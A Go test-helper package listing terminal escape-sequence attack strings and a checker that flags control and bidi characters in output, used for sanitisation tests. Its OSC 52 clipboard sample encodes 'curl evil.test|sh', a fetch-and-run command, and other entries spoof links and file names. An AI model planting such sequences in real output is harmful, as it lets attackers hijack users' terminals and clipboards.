// Package sanitizetest holds the one table of terminal escape-sequence
// classes that tests feed through every field reaching a screen, a
// command's text or JSON output, a CSV or an email, and the check that
// output carries none of them. Only tests import it.
package sanitizetest

import (
	"fmt"
	"unicode/utf8"
)

// Class is one kind of hostile text.
type Class struct {
	Name string
	S    string
}

// Classes are the escape-sequence classes of issue 7: OSC 0 (title), OSC 8
// (hyperlink), OSC 52 (clipboard), CSI 2J (clear), CSI 6n (cursor report),
// DCS, APC, ESC c (reset), 8-bit C1 (raw byte), C1 as UTF-8, bidi
// overrides and isolates, and an unterminated OSC.
var Classes = []Class{
	{"OSC 0 title", "\x1b]0;pwned\x07"},
	{"OSC 8 hyperlink", "\x1b]8;;https://evil.test\x1b\\click\x1b]8;;\x1b\\"},
	{"OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsLnRlc3R8c2g=\x07"},
	{"CSI 2J clear", "\x1b[2J"},
	{"CSI 6n report", "\x1b[6n"},
	{"DCS", "\x1bP1$r0m\x1b\\"},
	{"APC", "\x1b_Gpwn\x1b\\"},
	{"ESC c reset", "\x1bc"},
	{"8-bit C1 CSI", "\x9b2J"},
	{"UTF-8 C1 CSI", "\u009b2J"},
	{"UTF-8 C1 OSC", "\u009d0;t\u009c"},
	{"bidi RLO", "\u202egnp.exe"},
	{"bidi isolate", "\u2066x\u2069"},
	{"unterminated OSC", "\x1b]0;never ends"},
}

// Dirty describes the first thing in out that must never reach a
// terminal, a CSV or an email: invalid UTF-8, ESC or another C0 control
// (line feed, tab and carriage return allowed), DEL, a C1 control, or a
// bidi embedding, override, isolate or mark. "" means out is clean.
func Dirty(out []byte) string {
	for i := 0; i < len(out); {
		r, n := utf8.DecodeRune(out[i:])
		switch {
		case r == utf8.RuneError && n <= 1:
			return fmt.Sprintf("invalid UTF-8 byte %#x at %d", out[i], i)
		case r == '\n' || r == '\t' || r == '\r':
		case r < 0x20 || r == 0x7f:
			return fmt.Sprintf("control character U+%04X at %d", r, i)
		case r >= 0x80 && r <= 0x9f:
			return fmt.Sprintf("C1 control U+%04X at %d", r, i)
		case (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) || r == 0x200e || r == 0x200f || r == 0x061c:
			return fmt.Sprintf("bidi control U+%04X at %d", r, i)
		}
		i += n
	}
	return ""
}
